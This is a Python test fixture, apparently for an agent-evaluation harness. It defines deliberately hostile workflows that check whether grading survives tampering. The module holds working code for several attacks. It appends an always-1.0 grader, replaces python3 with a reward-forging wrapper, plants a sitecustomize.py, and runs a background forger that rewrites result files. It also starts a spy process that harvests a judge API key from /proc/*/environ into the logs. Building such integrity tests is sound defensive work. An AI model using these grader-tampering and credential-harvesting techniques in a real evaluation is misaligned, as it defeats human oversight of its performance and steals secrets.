"""Workflows and graders that attack the trial they run in (issue 28), for the harbor
tests of grading integrity, secrets and how a dying process is reported.

Imported as ``hostile_workflows:Name`` with ``tests/harbor`` as the code dir. Runs on the
trial image's Python 3.11 with only the osmo-run SDK: stdlib only. Every workflow answers
``metadata.answer`` (default ``"41"``, against the rows' label ``"42"``), so the fair grade
is 0.0 and a 1.0 means an attack changed it.

``metadata.attack``
    ``rewrite_code``: append a grader that always gives 1.0 to the staged code
    (``/opt/osmo-run/code/hostile_workflows.py``) and to the staged SDK;
    ``spy``: leave a background process that reads every process's environment in the
    container (``/proc/*/environ``) and writes any ``OSMO_RUN_JUDGE_API_KEY`` it finds,
    base64-encoded, to ``/logs/artifacts``, ``/logs/agent``, ``/logs/verifier`` and the
    working directory;
    ``python``: replace ``python3`` with a script that runs the real one and then sets the
    reward in the result file it was given to 1.0;
    ``pythonpath``: put a ``sitecustomize.py`` on the runner's ``PYTHONPATH``
    (``/opt/osmo-run/deps``) that makes every result's reward 1.0;
    ``reward``: write a grader result with reward 1.0 (and ``reward.txt``) where the
    grader's go, and leave a background process rewriting them (and the grader's input,
    with the answer as label) while the grader runs;
    ``exit``: ``sys.exit(metadata.code)``; ``os_exit``: ``os._exit(metadata.code)``;
    ``oom``: allocate ``metadata.mb`` MiB (default 1024) and touch every page;
    ``suicide``: ``SIGKILL`` its own process.
``metadata.grader_action`` (:class:`FairGrader`)
    ``exit`` / ``os_exit`` as above, ``block``: ``time.sleep`` forever; default: 1.0 when
    the answer equals the label, else 0.0.
"""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from pathlib import Path

from osmo_run import AgentWorkflow, AgentWorkflowContext, AgentWorkflowOutput, Grader, GraderContext

ALWAYS_ONE = """

class FairGrader(Grader):  # appended by a hostile workflow
    async def grade(self, ctx):
        return 1.0
"""

SPY = r"""
import base64, glob, os, time
found = set()
end = time.time() + 90
while time.time() < end:
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            data = open(path, "rb").read()
        except OSError:
            continue
        for item in data.split(b"\0"):
            if item.startswith(b"OSMO_RUN_JUDGE_API_KEY=") and item not in found:
                found.add(item)
                leak = base64.b64encode(item).decode()
                for target in ("/logs/artifacts/leak.txt", "/logs/agent/leak.txt",
                               "/logs/verifier/leak.txt", "leak.txt"):
                    try:
                        with open(target, "a") as out:
                            out.write(leak + "\n")
                    except OSError:
                        pass
    time.sleep(0.01)
"""

FORGED_SDK = """

_fair_to_dict = ExecutionResult.to_dict


def _forged_to_dict(self):  # appended by a hostile workflow
    data = _fair_to_dict(self)
    data["reward"] = 1.0
    if data.get("sample"):
        data["sample"]["reward"] = 1.0
    return data


ExecutionResult.to_dict = _forged_to_dict
"""

FORGER = r"""
import json, os, time
end = time.time() + 90
result = "/logs/verifier/osmo_grader_result.json"
request = "/logs/verifier/osmo_grader_input.json"
while time.time() < end:
    for path in (result, request):
        try:
            data = json.load(open(path))
        except (OSError, ValueError):
            continue
        if path == result and data.get("reward") != 1.0:
            data["reward"] = 1.0
            if data.get("sample"):
                data["sample"]["reward"] = 1.0
            data["status"] = "success"
        elif path == request and data.get("request", {}).get("label") != "41":
            data["request"]["label"] = "41"
        else:
            continue
        try:
            with open(path + ".forged", "w") as out:
                json.dump(data, out)
            os.replace(path + ".forged", path)
        except OSError:
            pass
    try:
        with open("/logs/verifier/reward.txt", "w") as out:
            out.write("1.0\n")
    except OSError:
        pass
    time.sleep(0.002)
"""

FAKE_PYTHON = """#!/bin/sh
# a hostile workflow's python3: run the real one, then give the result file a 1.0
/usr/bin/python3.11 "$@"
code=$?
for last; do :; done
/usr/bin/python3.11 - "$last" <<'EOF'
import json, sys
path = sys.argv[1]
try:
    data = json.load(open(path))
except (OSError, ValueError):
    raise SystemExit(0)
data["reward"] = 1.0
if data.get("sample"):
    data["sample"]["reward"] = 1.0
data["status"] = "success"
json.dump(data, open(path, "w"))
EOF
exit $code
"""

SITECUSTOMIZE = """
import osmo_run.sdk.types as _types

_to_dict = _types.ExecutionResult.to_dict


def _forged(self):
    data = _to_dict(self)
    data["reward"] = 1.0
    if data.get("sample"):
        data["sample"]["reward"] = 1.0
    return data


_types.ExecutionResult.to_dict = _forged
"""


def _background(script: str) -> None:
    """Start ``script`` in a process that outlives the workflow (its own session)."""
    subprocess.Popen(
        [sys.executable, "-c", script],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )


def _attack(action: str, ctx: AgentWorkflowContext) -> None:
    if action == "rewrite_code":
        for target in (
            Path("/opt/osmo-run/code/hostile_workflows.py"),
            Path("/opt/osmo-run/runtime/osmo_run/sdk/types.py"),
        ):
            with target.open("a") as out:
                out.write(ALWAYS_ONE if target.name == "hostile_workflows.py" else FORGED_SDK)
    elif action == "spy":
        _background(SPY)
    elif action == "python":
        fake = Path("/usr/bin/python3.fake")
        fake.write_text(FAKE_PYTHON)
        fake.chmod(0o755)
        fake.replace("/usr/bin/python3")
    elif action == "pythonpath":
        deps = Path("/opt/osmo-run/deps")
        deps.mkdir(parents=True, exist_ok=True)
        (deps / "sitecustomize.py").write_text(SITECUSTOMIZE)
    elif action == "reward":
        verifier = Path("/logs/verifier")
        verifier.mkdir(parents=True, exist_ok=True)
        (verifier / "reward.txt").write_text("1.0\n")
        _background(FORGER)
    elif action == "exit":
        sys.exit(int(ctx.metadata.get("code", 0)))
    elif action == "os_exit":
        os._exit(int(ctx.metadata.get("code", 0)))
    elif action == "oom":
        hog = bytearray(int(ctx.metadata.get("mb", 1024)) * 2**20)
        for i in range(0, len(hog), 4096):
            hog[i] = 1
    elif action == "suicide":
        os.kill(os.getpid(), signal.SIGKILL)


class HostileWorkflow(AgentWorkflow):
    """Attacks as ``metadata.attack`` says, then answers ``metadata.answer``."""

    async def run(self, ctx: AgentWorkflowContext) -> AgentWorkflowOutput:
        _attack(str(ctx.metadata.get("attack", "")), ctx)
        answer = str(ctx.metadata.get("answer", "41"))
        return AgentWorkflowOutput(messages=[*ctx.prompt, {"role": "assistant", "content": answer}])


class FairGrader(Grader):
    """1.0 when the answer equals the label, else 0.0 (or what ``grader_action`` says)."""

    async def grade(self, ctx: GraderContext) -> float:
        action = ctx.metadata.get("grader_action")
        if action == "exit":
            sys.exit(int(ctx.metadata.get("code", 0)))
        if action == "os_exit":
            os._exit(int(ctx.metadata.get("code", 0)))
        if action == "block":
            time.sleep(10**6)
        assert ctx.sample is not None
        return 1.0 if str(ctx.sample.messages[-1].get("content")) == str(ctx.label) else 0.0
